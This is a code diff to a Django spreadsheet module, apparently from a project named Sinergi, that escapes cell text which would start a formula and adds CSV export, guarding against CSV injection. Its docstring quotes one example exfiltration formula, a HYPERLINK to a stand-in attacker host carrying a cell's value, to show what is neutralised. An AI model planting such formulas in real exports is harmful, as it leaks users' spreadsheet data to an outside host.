@@ -1,7 +1,16 @@
-"""Reading and writing XLSX files with openpyxl."""
+"""Reading and writing spreadsheets: XLSX files with openpyxl, and CSV.
 
+Every XLSX and CSV file Sinergi hands out is written here, cell by cell through `safe_cell`:
+a text that a spreadsheet program would run as a formula (it starts with = + - @, a tab or a
+carriage return) gets a leading apostrophe, as OWASP recommends against "CSV injection". A
+group named `=HYPERLINK("http://evil.example/?x="&A2)` is then shown as text, never followed.
+The readers (`read_rows`, `clean_text`) drop that apostrophe again, so an export imports back.
+"""
+
+import csv
 import datetime
 import io
+import re
 import zipfile
 from dataclasses import dataclass
 
@@ -10,6 +19,8 @@ from django.core.validators import FileExtensionValidator
 from django.utils.translation import gettext as _
 from django.utils.translation import gettext_lazy
 from openpyxl import Workbook, load_workbook
+from openpyxl.cell import WriteOnlyCell
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 from openpyxl.comments import Comment
 from openpyxl.styles import Font
 from openpyxl.utils import get_column_letter
@@ -47,33 +58,114 @@ class TemplateColumn:
     width: int = 20
 
 
-def workbook_bytes(title: str, header: list, rows: list[list]) -> bytes:
-    """One sheet with a bold header row and frozen panes, as the bytes of an .xlsx file."""
-    workbook = Workbook(write_only=True)
-    sheet = workbook.create_sheet(title[:31])
-    sheet.freeze_panes = "A2"
-    bold = Font(bold=True)
-    sheet.append([_bold_cell(sheet, str(h), bold) for h in header])
-    for row in rows:
-        sheet.append(row)
+# The first characters with which a spreadsheet program reads a cell as a formula (tab and
+# carriage return: some programs skip them and read what follows).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# A plain number ("-5", "+62", "-6.93") cannot be a formula: it stays as it is, so negative
+# figures written as text (CSV) are still read as numbers.
+PLAIN_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)")
+
+
+def safe_cell(value):
+    """`value` as it may be written in a spreadsheet cell: a text that would start a formula
+    gets a leading apostrophe; numbers, dates, Decimals and None are returned unchanged."""
+    formula = isinstance(value, str) and value.startswith(FORMULA_STARTS)
+    if formula and not PLAIN_NUMBER.fullmatch(value):
+        return "'" + value
+    return value
+
+
+def clean_text(value: str):
+    """A text read from a cell: without the apostrophe `safe_cell` put before a formula
+    character, stripped; None when empty."""
+    if value.startswith("'") and value[1:2] and value[1:].startswith(FORMULA_STARTS):
+        value = value[1:]
+    return value.strip() or None
+
+
+def _xlsx_cell(sheet, value, font=None):
+    """A cell for `sheet` (of any mode) holding `value` made safe. A text is always stored as
+    text: openpyxl would otherwise store one starting with "=" as a formula and "#N/A" as an
+    error; characters XML cannot hold are dropped rather than failing the whole file."""
+    value = safe_cell(value)
+    if isinstance(value, str):
+        value = ILLEGAL_CHARACTERS_RE.sub("", value)
+    cell = WriteOnlyCell(sheet, value=value)
+    if isinstance(value, str):
+        cell.data_type = "s"
+    if font is not None:
+        cell.font = font
+    return cell
+
+
+def write_row(sheet, values, font=None):
+    """Append `values` to the openpyxl `sheet` as one row of safe cells: the only way Sinergi
+    writes cells into a sheet."""
+    sheet.append([None if v is None else _xlsx_cell(sheet, v, font) for v in values])
+
+
+def write_cell(sheet, row: int, column: int, value, font=None):
+    """Set one cell of the (not write-only) `sheet` to `value`, made safe as by `write_row`."""
+    cell = sheet.cell(row=row, column=column)
+    safe = _xlsx_cell(sheet, value)
+    cell.value = safe.value
+    cell.data_type = safe.data_type
+    if font is not None:
+        cell.font = font
+    return cell
+
+
+def workbook_to_bytes(workbook) -> bytes:
     buffer = io.BytesIO()
     workbook.save(buffer)
     return buffer.getvalue()
 
 
-def _bold_cell(sheet, value, font):
-    from openpyxl.cell import WriteOnlyCell
+def workbook_bytes(title: str, header: list, rows) -> bytes:
+    """One sheet with a bold header row and frozen panes, as the bytes of an .xlsx file."""
+    workbook = Workbook(write_only=True)
+    sheet = workbook.create_sheet(title[:31])
+    sheet.freeze_panes = "A2"
+    write_row(sheet, [str(h) for h in header], Font(bold=True))
+    for row in rows:
+        write_row(sheet, row)
+    return workbook_to_bytes(workbook)
 
-    cell = WriteOnlyCell(sheet, value=value)
-    cell.font = font
-    return cell
+
+class _Echo:
+    """A file-like object that hands back what is written to it, for streaming CSV."""
+
+    def write(self, value):
+        return value
+
+
+def csv_lines(header: list, rows):
+    """A CSV file, line by line (for a streaming response), every field made safe, with a
+    byte-order mark first so that spreadsheet programs read it as UTF-8."""
+    writer = csv.writer(_Echo())
+    yield "\ufeff" + writer.writerow([safe_cell(str(h)) for h in header])
+    for row in rows:
+        yield writer.writerow([safe_cell(value) for value in row])
+
+
+def csv_text(header: list, rows) -> str:
+    """The whole CSV file of `csv_lines` as one text."""
+    return "".join(csv_lines(header, rows))
 
 
 def template_bytes(
-    title: str, columns: list[TemplateColumn], lists_title: str, max_rows: int = 1000
+    title: str, columns: list[TemplateColumn], lists_title: str, max_rows: int = 1000, rows=()
 ) -> bytes:
-    """An empty import template: the header row on the first sheet, and for every column with
-    choices a drop-down over `max_rows` rows whose values are listed on a second sheet."""
+    """The bytes of `template_workbook`."""
+    return workbook_to_bytes(template_workbook(title, columns, lists_title, max_rows, rows))
+
+
+def template_workbook(
+    title: str, columns: list[TemplateColumn], lists_title: str, max_rows: int = 1000, rows=()
+) -> Workbook:
+    """An import template: the header row on the first sheet, then `rows` (values already in
+    the sheet, such as stored figures), and for every column with choices a drop-down over
+    `max_rows` rows whose values are listed on a second sheet."""
     workbook = Workbook()
     sheet = workbook.active
     sheet.title = title[:31]
@@ -83,8 +175,7 @@ def template_bytes(
     list_column = 0
     for index, column in enumerate(columns, start=1):
         letter = get_column_letter(index)
-        cell = sheet.cell(row=1, column=index, value=column.header)
-        cell.font = bold
+        cell = write_cell(sheet, 1, index, column.header, bold)
         if column.note:
             cell.comment = Comment(column.note, "Sinergi")
         dimension = sheet.column_dimensions[letter]
@@ -96,9 +187,9 @@ def template_bytes(
         if column.choices:
             list_column += 1
             list_letter = get_column_letter(list_column)
-            lists.cell(row=1, column=list_column, value=column.header).font = bold
+            write_cell(lists, 1, list_column, column.header, bold)
             for row, choice in enumerate(column.choices, start=2):
-                lists.cell(row=row, column=list_column, value=choice)
+                write_cell(lists, row, list_column, choice)
             lists.column_dimensions[list_letter].width = column.width
             last = len(column.choices) + 1
             sheet_name = lists.title.replace("'", "''")
@@ -109,9 +200,9 @@ def template_bytes(
             )
             sheet.add_data_validation(validation)
             validation.add(f"{letter}2:{letter}{max_rows + 1}")
-    buffer = io.BytesIO()
-    workbook.save(buffer)
-    return buffer.getvalue()
+    for row in rows:
+        write_row(sheet, row)
+    return workbook
 
 
 def read_rows(uploaded_file, max_rows: int) -> tuple[list, list[tuple[int, list]]]:
@@ -171,7 +262,7 @@ def _numbered_rows(sheet, max_rows):
 
 def _clean(value):
     if isinstance(value, str):
-        return value.strip() or None
+        return clean_text(value)
     if isinstance(value, datetime.datetime):
         return value.date()
     return value
